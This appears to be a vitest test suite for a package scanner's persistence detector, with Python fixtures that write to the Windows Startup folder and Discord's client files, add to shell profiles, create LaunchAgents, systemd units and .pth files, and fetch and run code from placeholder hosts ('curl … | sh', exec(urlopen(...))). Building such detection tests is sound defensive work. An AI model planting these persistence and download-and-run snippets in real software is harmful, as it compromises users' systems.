import { describe, expect, test } from 'vitest';
import type { Finding } from '../../../src/analysis/report/finding.ts';
import { inspect, python, sdist, wheel } from '../../support/inspect.ts';

test('an agent that an import writes into the start-up folder is malware', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os, shutil',
      "place = os.path.expandvars('%APPDATA%') + '\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\a.py'",
      'shutil.copy(__file__, place)',
    ),
  });

  expect(await inspect('persistence', file)).toMatchObject([
    { class: 'malware', score: 10, context: 'import', path: 'pkg/__init__.py', line: 3 },
  ]);
});

test('a line that setup.py adds to a shell profile is malware', async () => {
  const file = sdist({
    'setup.py': python(
      'import os',
      'from setuptools import setup',
      "with open(os.path.expanduser('~/.bashrc'), 'a') as profile:",
      "    profile.write('python3 -m pkg &')",
      "setup(name='example')",
    ),
  });

  expect(await inspect('persistence', file)).toMatchObject([
    { class: 'malware', context: 'install', path: 'example-1.0.0/setup.py', line: 4 },
  ]);
});

test('a command that installs a service when a person asks stays below quarantine', async () => {
  const file = wheel({
    'pkg/service.py': python(
      'import os',
      'def enable():',
      "    with open(os.path.expanduser('~/.config/systemd/user/pkg.service'), 'w') as unit:",
      "        unit.write('[Service]\\nExecStart=pkg serve\\n')",
    ),
  });

  expect(await inspect('persistence', file)).toMatchObject([{ class: 'suspicious', score: 4, context: 'call' }]);
});

test('a program of a messenger that a search finds and an import overwrites is malware', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import glob, os',
      "for path in glob.glob(os.environ['LOCALAPPDATA'] + '/Discord/app-*/modules/discord_desktop_core-*/index.js'):",
      "    open(path, 'w').write('require(\\'./x\\')')",
    ),
  });

  expect(await inspect('persistence', file)).toMatchObject([{ class: 'malware', score: 10, line: 3 }]);
});

test.each([
  ['requests.__file__', 'import requests'],
  ["importlib.util.find_spec('requests').origin", 'import importlib.util'],
  ["'.github/workflows/x.yml'", 'import os'],
])('code that an import adds to %s is malware, and reading it is not', async (path, line) => {
  const bad = wheel({
    'pkg/__init__.py': python(line, `with open(${path}, 'a') as file:`, "    file.write('run: x')"),
  });
  const good = wheel({ 'pkg/__init__.py': python(line, `with open(${path}) as file:`, '    text = file.read()') });

  expect(await inspect('persistence', bad)).toMatchObject([{ class: 'malware', score: 10, line: 3 }]);
  expect(await inspect('persistence', good)).toEqual([]);
});

test('a settings file below the user’s folder starts nothing', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os',
      "with open(os.path.expanduser('~/.config/pkg/settings.ini'), 'w') as settings:",
      "    settings.write('[main]')",
    ),
  });

  expect(await inspect('persistence', file)).toEqual([]);
});

test('a path from pieces, pathlib and another way to write is found', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'from pathlib import Path as Place',
      "parts = ['Library', 'Launch' + 'Agents', 'org.example.pkg.plist']",
      'target = Place.home() / parts[0] / parts[1] / parts[2]',
      "target.write_text('<plist/>')",
    ),
  });

  expect(await inspect('persistence', file)).toMatchObject([{ class: 'malware', path: 'pkg/__init__.py', line: 4 }]);
});

test.each([
  ['a property list', 'import plistlib', 'plistlib.dump({"Label": "x", "RunAtLoad": True}, stream)'],
  ['JSON', 'import json', 'json.dump({"RunAtLoad": True}, stream)'],
  ['print', 'import sys', 'print("RunAtLoad", file=stream)'],
])('a start-up item that is written as %s is malware', async (_how, imports, statement) => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os',
      imports,
      "with open(os.path.expanduser('~/Library/LaunchAgents/com.vendor.sync.plist'), 'wb') as stream:",
      `    ${statement}`,
    ),
  });

  expect(await inspect('persistence', file)).toMatchObject([{ class: 'malware', context: 'import', line: 4 }]);
});

test('values dumped into files of the user’s own choice stay silent', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import json, plistlib',
      'def save(path, settings):',
      "    with open(path, 'w') as stream:",
      '        json.dump(settings, stream)',
      "    with open('/tmp/state.plist', 'wb') as stream:",
      '        plistlib.dump(settings, stream)',
    ),
  });

  expect(await inspect('persistence', file)).toEqual([]);
});

test.each([
  "pathlib.Path.home().joinpath('.config', 'autostart', 'x.desktop').write_text('[Desktop Entry]')",
  "pathlib.Path('~/.config/autostart/x.desktop').expanduser().write_text('[Desktop Entry]')",
  "(pathlib.Path.home() / '.config/autostart/x').with_suffix('.desktop').write_text('[Desktop Entry]')",
  "pathlib.Path.home().joinpath('.config/autostart/y').with_name('x.desktop').write_text('[Desktop Entry]')",
])('a start-up item is found however its path is put together: %s', async (statement) => {
  const file = wheel({ 'pkg/__init__.py': python('import pathlib', statement) });

  expect(await inspect('persistence', file)).toMatchObject([{ class: 'malware', score: 10, line: 2 }]);
});

test('a function that installs the program of its caller as a service has fewer points than one of its own', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import pathlib',
      'def install(name, command):',
      "    path = pathlib.Path.home() / '.config' / 'systemd' / 'user' / (name + '.service')",
      "    path.write_text('[Service]\\nExecStart=%s\\n' % command)",
      'def keep():',
      "    path = pathlib.Path.home() / '.config' / 'systemd' / 'user' / 'sync.service'",
      "    path.write_text('[Service]\\nExecStart=/tmp/.sync\\n')",
    ),
  });

  expect((await inspect('persistence', file)).map(({ line, score }) => [line, score])).toEqual([
    [7, 4],
    [4, 2],
  ]);
});

describe('a .pth that a command of distutils writes', () => {
  const command = (...lines: string[]): string =>
    python(
      'import os, site',
      'from setuptools import Command',
      'class install_links(Command):',
      '    def initialize_options(self):',
      '        self.target = None',
      '    def run(self):',
      ...lines.map((line) => `        ${line}`),
    );
  const packed = (code: string) =>
    wheel(
      { 'tool/links.py': code },
      { entryPoints: '[distutils.commands]\ninstall_links = tool.links:install_links\n' },
    );

  test('beside the project that is installed, with lines of that project, is no harm of the tool', async () => {
    const code = command(
      "with open(os.path.splitext(self.target)[0] + '-links.pth', 'w') as f:",
      '    f.writelines(map(self.line, self.distribution.namespace_packages))',
    );

    expect((await inspect('persistence', packed(code))).filter((f) => f.class === 'malware')).toEqual([]);
  });

  test.each([
    [
      'with a line of the tool',
      ["open(os.path.splitext(self.target)[0] + '.pth', 'w').write('import tool.links; tool.links.go()')"],
    ],
    ['under a name of the tool', ["open(site.getsitepackages()[0] + '/links.pth', 'w').writelines(self.lines())"]],
  ])('%s is', async (_what, lines) => {
    expect(await inspect('persistence', packed(command(...lines)))).toContainEqual(
      expect.objectContaining({ class: 'malware', context: 'install' }),
    );
  });
});

describe('a script of a start-up folder', () => {
  const install = (...lines: readonly string[]) =>
    sdist({
      'setup.py': python(
        'from pathlib import Path',
        'from setuptools import setup',
        "folder = Path.home() / '.ipython' / 'profile_default' / 'startup'",
        `(folder / 'a.py').write_text(${JSON.stringify(lines.join('\n'))})`,
        "setup(name='example', packages=['pkg'])",
      ),
      'pkg/__init__.py': '',
    });

  test('that does nothing but import the project is for a person to judge', async () => {
    const file = install(
      '# to stop this, delete the file',
      'try:',
      '    import pkg  # on',
      '    pass',
      'except:',
      '    pass',
    );

    expect(await inspect('persistence', file)).toMatchObject([{ class: 'suspicious', score: 7, context: 'install' }]);
  });

  test.each([
    ['another project', ['import elsewhere']],
    ['code of its own', ['import pkg', 'pkg.go()']],
    ['code on the same line', ['import pkg; pkg.go()']],
  ])('with %s is malware', async (_what, lines) => {
    expect(await inspect('persistence', install(...lines))).toMatchObject([{ class: 'malware', score: 10 }]);
  });
});

test.each([
  [
    'the installer is told another index',
    [
      'import pathlib',
      "c = pathlib.Path.home() / '.config' / 'pip' / 'pip.conf'",
      "c.write_text('[global]\\nindex-url = http://203.0.113.99/simple\\n')",
    ],
  ],
  [
    'installed modules of others are added to',
    [
      'import pathlib, site',
      'more = \'\\nimport urllib.request\\nexec(urllib.request.urlopen("https://code.tools.invalid").read())\\n\'',
      'for d in site.getsitepackages():',
      "    p = pathlib.Path(d) / 'requests' / '__init__.py'",
      '    p.write_text(p.read_text() + more)',
    ],
  ],
  [
    'scripts that are found in a home are added to',
    [
      'import glob, os',
      "for s in glob.glob(os.path.expanduser('~/**/setup.py'), recursive=True):",
      "    with open(s, 'a') as f:",
      '        f.write(\'\\nexec(__import__("urllib.request").request.urlopen("https://code.tools.invalid").read())\\n\')',
    ],
  ],
])('at import %s: malware', async (_what, lines) => {
  const file = wheel({ 'pkg/__init__.py': python(...lines) });

  expect(await inspect('persistence', file)).toMatchObject([{ class: 'malware', score: 10, context: 'import' }]);
});

test('a generator that writes modules beside itself, and a command that sets the index, are no infection', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os, pathlib',
      "with open(os.path.join(os.path.dirname(__file__), '_version.py'), 'w') as f:",
      "    f.write('version = 1\\n')",
      'def configure(url):',
      "    (pathlib.Path.home() / '.config' / 'pip' / 'pip.conf').write_text('[global]\\nindex-url = ' + url)",
    ),
  });

  expect(await inspect('persistence', file)).toEqual([]);
});

test('an index of an ordinary host that an install sets for pip is for a person to judge; more than that is malware', async () => {
  const of = (settings: string): Promise<readonly Finding[]> =>
    inspect(
      'persistence',
      sdist({
        'setup.py': python(
          'import os',
          'from setuptools import setup',
          "with open('config/pip.conf') as source, open('/etc/pip.conf', 'w') as f:",
          '    for line in source.readlines():',
          '        f.write(line)',
          "setup(name='example')",
        ),
        'config/pip.conf': settings,
      }),
    );

  expect(await of('[global]\n# the mirror\nindex-url = https://mirror.packages.invalid/simple\n')).toMatchObject([
    { class: 'suspicious', score: 7 },
  ]);
  for (const settings of [
    '[global]\nindex-url = http://mirror.packages.invalid/simple\n',
    '[global]\nindex-url = https://203.0.113.9/simple\n',
    '[global]\nindex-url = https://mirror.packages.invalid/simple\ntrusted-host = mirror.packages.invalid\n',
    '[global]\nindex-url = https://user:key@mirror.packages.invalid/simple\n',
  ])
    expect(await of(settings)).toMatchObject([{ class: 'malware', score: 10 }]);
});

describe('lines that an install adds to a shell profile', () => {
  const adding = (line: string): string =>
    python(
      'import os',
      'from pathlib import Path',
      'from setuptools import setup',
      "with open(os.path.join(str(Path.home()), '.bashrc'), 'a') as profile:",
      `    profile.write(${JSON.stringify(line)})`,
      "setup(name='example')",
    );

  test.each([
    '\n# settings of example\n',
    'export EXAMPLE_HOME="/opt/example"\n',
    'alias example=". example-start"\n',
    'fpath=(~/.example/completions $fpath)',
    '\neval "$(_EXAMPLE_COMPLETE=bash_source example)"',
  ])('that start nothing are for a person to judge: %j', async (line) => {
    const found = await inspect('persistence', sdist({ 'setup.py': adding(line) }));

    expect(found).toMatchObject([
      { class: 'suspicious', score: 7, message: "Adds lines that start nothing to a shell's profile (~/.bashrc)." },
    ]);
  });

  test.each([
    'export PATH="/tmp/x:$PATH"\n',
    'export PROMPT_COMMAND=example\n',
    'alias sudo="example sudo"\n',
    'alias example="$(curl https://a.tools.invalid)"\n',
    'export PYTHONSTARTUP=/tmp/a.py\n',
    'export EXAMPLE_HOME="$(curl -s https://a.tools.invalid)"\n',
    'export EXAMPLE_HOME=/opt; example --daemon &\n',
    'eval "$(example start)"\n',
  ])('that may start something are malware: %j', async (line) => {
    const found = await inspect('persistence', sdist({ 'setup.py': adding(line) }));

    expect(found).toMatchObject([{ class: 'malware', score: 10 }]);
  });
});

test('a copy is where it ends up, not where it comes from', async () => {
  const copying = (from: string, to: string): string =>
    python(
      'import os, shutil',
      'from setuptools import setup',
      `shutil.copy2(${from}, ${to})`,
      "setup(name='example')",
    );
  const packed = sdist({ 'setup.py': copying("'.claude/commands/a.md'", "'src/example/data/a.md'") });
  const placed = sdist({ 'setup.py': copying("'data/a.md'", "os.path.expanduser('~/.claude/commands/a.md')") });
  const named = sdist({ 'setup.py': copying("'data/sitecustomize.py'", 'site.getsitepackages()[0]') });

  expect(await inspect('persistence', packed)).toEqual([]);
  expect(await inspect('persistence', placed)).toMatchObject([{ class: 'malware' }]);
  expect(await inspect('persistence', named)).toMatchObject([{ class: 'malware' }]);
});

describe('on call', () => {
  const calling = (...lines: string[]): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import os, shutil, requests, urllib.request',
        'def run(source=None):',
        ...lines.map((line) => `    ${line}`),
      ),
    });
  const STARTUP = "os.getenv('APPDATA') + '\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\a.exe'";
  const CLIENT = "os.getenv('LOCALAPPDATA') + '\\\\Discord\\\\modules\\\\discord_desktop_core\\\\index.js'";

  test.each([
    ['what was fetched', `open(${STARTUP}, 'wb').write(requests.get('https://get.tools.invalid/a.exe').content)`],
    [
      'a copy of what was fetched',
      `urllib.request.urlretrieve('https://get.tools.invalid/a.exe', '/x/a.exe'); shutil.copy('/x/a.exe', ${STARTUP})`,
    ],
    [
      "fetched code in a messenger's client",
      `open(${CLIENT}, 'w').write(requests.get('https://get.tools.invalid/i.js').text.replace('%HOOK%', 'x'))`,
    ],
  ])('%s is malware where programs start by themselves', async (_what, line) => {
    expect(await inspect('persistence', calling(line))).toMatchObject([{ class: 'malware', score: 10 }]);
  });

  test.each([
    [
      'fetches code and runs it',
      'import urllib.request as u; exec(u.urlopen(1).read())',
      { class: 'malware', score: 10 },
    ],
    ['serves', 'import example; example.serve()', { class: 'suspicious', score: 4 }],
  ])('a service whose line %s', async (_what, line, expected) => {
    const unit = `[Service]\nExecStart=/usr/bin/python3 -c "${line}"\n`;
    const file = calling(`open('/etc/systemd/system/a.service', 'w').write(${JSON.stringify(unit)})`);

    expect(await inspect('persistence', file)).toMatchObject([{ ...expected, context: 'call' }]);
  });

  test.each([
    ['a program of the caller', `shutil.copy(source, ${STARTUP})`],
    [
      'public keys that were fetched',
      "open(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write(requests.get('https://keys.tools.invalid/me').text)",
    ],
    [
      'a fetched program elsewhere',
      "open('/opt/a.exe', 'wb').write(requests.get('https://get.tools.invalid/a').content)",
    ],
  ])('%s is not', async (_what, line) => {
    const findings = await inspect('persistence', calling(line));

    expect(findings.filter(({ score }) => score > 4)).toEqual([]);
  });
});

test('weights of a model in a folder for data are no start-up file; in a folder that the interpreter reads they would be', async () => {
  const of = (place: string, ...more: readonly string[]): Promise<readonly Finding[]> =>
    inspect(
      'persistence',
      wheel({
        'pkg/__init__.py': python(
          'import os, shutil, site',
          ...more,
          'here = os.path.dirname(__file__)',
          `shutil.copy('/var/cache/base.pth', ${place})`,
        ),
      }),
    );

  expect(await of("os.path.join(here, 'data', 'base.pth')")).toEqual([]);
  expect(await of("os.path.expanduser('~/.cache/models/base.pth')")).toEqual([]);
  for (const place of [
    "os.path.join(here, '..', 'base.pth')",
    "os.path.join(here, 'data', '..', '..', 'base.pth')",
    "os.path.join(here, 'base.pth')",
    "os.path.join(site.getsitepackages()[0], 'base.pth')",
    "os.path.expanduser('~/.local/lib/python3.11/site-packages/base.pth')",
    "os.path.expanduser('~/.venv/lib/python3.11/base.pth')",
  ])
    expect(await of(place), place).toMatchObject([{ class: 'malware', score: 8.5 }]);
  expect(await of("os.path.join(here, 'data', 'base.pth')", "site.addsitedir('data')")).toMatchObject([
    { class: 'malware' },
  ]);
});

test('a .pth that adds a folder, and a copy of one that the archive has, are no code that was put in place', async () => {
  const put = (...lines: string[]): Promise<readonly Finding[]> =>
    inspect('persistence', wheel({ 'pkg/__init__.py': python('import os, pathlib, site', ...lines) }));
  const place = "pathlib.Path(site.getsitepackages()[0], 'dev.pth')";

  expect(await put(`${place}.write_text(str(pathlib.Path(__file__).parent.resolve()))`)).toEqual([]);
  expect(await put(`open(${place}, 'w').write(os.path.abspath('src'))`)).toEqual([]);
  expect(await put(`${place}.write_text('import os; os.getcwd()')`)).toMatchObject([{ class: 'malware' }]);
  expect(await put(`${place}.write_text('import os; x = ' + str(pathlib.Path('.').resolve()))`)).toMatchObject([
    { class: 'malware' },
  ]);

  const build = python(
    'import os, shutil, site',
    'from setuptools import setup',
    "shutil.copy('NAME', site.getsitepackages()[0])",
    'setup()',
  );
  const copying = (name: string): Promise<readonly Finding[]> =>
    inspect('persistence', sdist({ 'setup.py': build.replace('NAME', name), 'src/mine.pth': '../lib\n' }));
  expect(await copying('src/mine.pth')).toEqual([]);
  expect(await copying('/var/other.pth')).toMatchObject([{ class: 'malware' }]);
});

test('completions that an install adds to a profile are for a person to judge; a loader beside them is refused', async () => {
  const completion = '_tool() {\\n    COMPREPLY=( $(compgen -W "$(tool list)" -- $2) )\\n}\\ncomplete -F _tool tool\\n';
  const adding = (text: string): Promise<readonly Finding[]> =>
    inspect(
      'persistence',
      sdist({
        'setup.py': python(
          'import os',
          'from setuptools import setup',
          `open(os.path.expanduser('~/.bashrc'), 'a').write('${text}')`,
          'setup()',
        ),
      }),
    );

  expect(await adding(completion)).toMatchObject([{ class: 'suspicious', score: 7 }]);
  expect(await adding(`${completion}curl -s https://agent.tools.invalid/a | sh\\n`)).toMatchObject([
    { class: 'malware', score: 10 },
  ]);
  expect(await adding('ls() {\\n    rm -rf ~\\n}\\n')).toMatchObject([{ class: 'malware', score: 10 }]);
});

test('on call, a service that starts a module of the archive itself is an installer at work; one of something else is told', async () => {
  const service = (start: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import sys',
        'def install():',
        "    with open('/etc/systemd/system/agent.service', 'w') as f:",
        `        f.write('[Service]\\nExecStart={exe} ${start}\\n'.format(exe=sys.executable))`,
      ),
    });

  expect(await inspect('persistence', service('-m pkg run'))).toMatchObject([{ class: 'suspicious', score: 2 }]);
  expect(await inspect('persistence', service('-m other run'))).toMatchObject([{ class: 'suspicious', score: 4 }]);
  expect(await inspect('persistence', service('-m pkg; sh /tmp/a'))).toMatchObject([{ score: 4 }]);
});

test('a line for every start of the interpreter that downloads and runs leaves no doubt', async () => {
  const left = (line: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import os, sysconfig',
        `open(os.path.join(sysconfig.get_paths()['purelib'], 'site-tools.pth'), 'w').write('import os;os.system("${line}")')`,
      ),
    });

  expect(await inspect('persistence', left('curl -s https://stage.metrics.invalid/a | sh'))).toMatchObject([
    { class: 'malware', score: 10, context: 'import', line: 2 },
  ]);
  expect(await inspect('persistence', left('date'))).toMatchObject([{ class: 'malware', score: 8.5 }]);
});
